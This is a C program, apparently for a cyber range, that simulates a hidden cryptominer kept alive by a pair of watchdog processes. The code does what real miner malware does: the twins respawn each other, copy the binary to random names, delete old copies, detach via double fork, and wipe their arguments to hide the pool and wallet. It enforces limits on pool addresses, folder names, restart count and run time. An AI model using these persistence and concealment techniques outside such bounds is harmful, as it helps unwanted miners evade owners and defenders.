/*
 * labtwin: a HARMLESS STAND-IN for a pair of processes that keep each other alive, for the disposable hosts of this range only.
 * One twin (a) pretends to mine: it burns a small, bounded share of CPU and holds one connection to the range's fake pool. The other (b) only watches.
 * Whoever misses the other copies its own program to a new random name in the folder given, removes the old name, and starts it in the other's place.
 * Bounds: it refuses any pool outside the range's test addresses, works only in a folder whose name holds "lab", starts its twin at most 60 times,
 * and ends itself, with whatever it started, at the time given when the first one began.
 *
 * usage: labtwin a|b FOLDER SECONDS -o stratum+tcp://HOST:PORT -u WALLET
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { MOST_SECONDS = 20 * 60, MOST_STARTS = 60, LOOK_MS = 100, BUSY_MS = 25 };

static const char *folder;

static long now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000L + t.tv_nsec / 1000000;
}

static void burn(int ms) {
  long until = now_ms() + ms;
  volatile unsigned long sink = 1;
  while (now_ms() < until)
    for (int i = 0; i < 2000; i++) sink = sink * 6364136223846793005UL + 1;
}

/* Only 127.0.0.0/8 and TEST-NET-3 (203.0.113.0/24), which is routed nowhere. */
static int dial(const char *url) {
  char host[128], port[8];
  if (sscanf(url, "stratum+tcp://%127[^:]:%7[0-9]", host, port) != 2) exit(64);
  struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *found;
  if (getaddrinfo(host, port, &hints, &found) != 0) return -1;
  struct sockaddr_in to = *(struct sockaddr_in *)found->ai_addr;
  freeaddrinfo(found);
  unsigned long ip = ntohl(to.sin_addr.s_addr);
  if ((ip >> 24) != 127 && (ip >> 8) != 0xCB0071) exit(64);
  int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), on = 1;
  if (s < 0) return -1;
  setsockopt(s, SOL_SOCKET, SO_KEEPALIVE, &on, sizeof on);
  if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) return s;
  close(s);
  return -1;
}

static void path_of(char *to, const char *role) { snprintf(to, 256, "%s/.%s", folder, role); }

static void say_pid(const char *role) {
  char path[256];
  path_of(path, role);
  FILE *f = fopen(path, "w");
  if (f) {
    fprintf(f, "%d\n", (int)getpid());
    fclose(f);
  }
}

static int alive(const char *role) {
  char path[256];
  int pid = 0;
  path_of(path, role);
  FILE *f = fopen(path, "r");
  if (!f) return 0;
  if (fscanf(f, "%d", &pid) != 1) pid = 0;
  fclose(f);
  return pid > 1 && (kill(pid, 0) == 0 || errno != ESRCH);
}

/* The other's program is copied anew under ten random letters; the name it had before goes. */
static int fresh_copy(const char *role, char *name) {
  char path[256], old[256], letters[11], bytes[65536];
  snprintf(path, sizeof path, "%s/.%s.name", folder, role);
  unsigned char random[10];
  int r = open("/dev/urandom", O_RDONLY | O_CLOEXEC);
  if (r < 0 || read(r, random, sizeof random) != sizeof random) return 0;
  close(r);
  for (int i = 0; i < 10; i++) letters[i] = (char)('a' + random[i] % 26);
  letters[10] = 0;
  snprintf(name, 256, "%s/%s", folder, letters);
  int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), to = open(name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
  if (from < 0 || to < 0) return 0;
  for (ssize_t n; (n = read(from, bytes, sizeof bytes)) > 0;)
    if (write(to, bytes, (size_t)n) != n) return 0;
  close(from);
  close(to);
  FILE *f = fopen(path, "r");
  if (f) {
    if (fscanf(f, "%255s", old) == 1 && strncmp(old, folder, strlen(folder)) == 0) unlink(old);
    fclose(f);
  }
  f = fopen(path, "w");
  if (f) {
    fprintf(f, "%s\n", name);
    fclose(f);
  }
  return 1;
}

static void start_other(const char *role, long seconds, const char *url, const char *wallet) {
  char name[256], left[24];
  if (!fresh_copy(role, name)) return;
  snprintf(left, sizeof left, "%ld", seconds);
  if (fork() != 0) return;
  setsid();
  if (fork() != 0) _exit(0);
  execl(name, name, role, folder, left, "-o", url, "-u", wallet, (char *)NULL);
  _exit(1);
}

int main(int argc, char **argv) {
  if (argc != 8 || strcmp(argv[4], "-o") != 0 || strcmp(argv[6], "-u") != 0) return 64;
  const char *role = argv[1], *other = strcmp(role, "a") == 0 ? "b" : "a", *url = argv[5], *wallet = argv[7];
  folder = strdup(argv[2]);
  long seconds = atol(argv[3]);
  if (folder == NULL || seconds < 1 || seconds > MOST_SECONDS || folder[0] != '/' || strstr(folder, "lab") == NULL || strlen(folder) > 128) return 64;
  char link[256] = "", mine[256];
  if (readlink("/proc/self/exe", link, sizeof link - 1) < 0) return 1;
  /* The name by which the other one finds and removes this program later. */
  snprintf(mine, sizeof mine, "%s/.%s.name", folder, role);
  FILE *f = fopen(mine, "w");
  if (f) {
    fprintf(f, "%s\n", link);
    fclose(f);
  }
  signal(SIGCHLD, SIG_IGN);
  signal(SIGPIPE, SIG_IGN);
  say_pid(role);
  long began = now_ms(), end = began + seconds * 1000;
  int pool = -1, starts = 0;
  /* Only its arguments tell the pool; once started they are gone from the watcher's. */
  char *kept_url = strdup(url), *kept_wallet = strdup(wallet);
  if (!kept_url || !kept_wallet) return 1;
  if (strcmp(role, "b") == 0)
    for (int i = 1; i < argc; i++) memset(argv[i], 0, strlen(argv[i]));
  role = strcmp(other, "b") == 0 ? "a" : "b";
  while (now_ms() < end) {
    if (role[0] == 'a') {
      if (pool < 0 && (pool = dial(kept_url)) >= 0) {
        char line[512];
        int n = snprintf(line, sizeof line, "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"%s\",\"pass\":\"x\",\"agent\":\"labtwin/1 harmless stand-in\"}}\n", kept_wallet);
        if (send(pool, line, (size_t)n, MSG_NOSIGNAL) < 0) pool = -1;
      }
      burn(BUSY_MS);
    }
    if (!alive(other) && starts++ < MOST_STARTS) {
      start_other(other, (end - now_ms()) / 1000, kept_url, kept_wallet);
      usleep(200000);
    }
    usleep(LOOK_MS * 1000);
  }
  return 0;
}
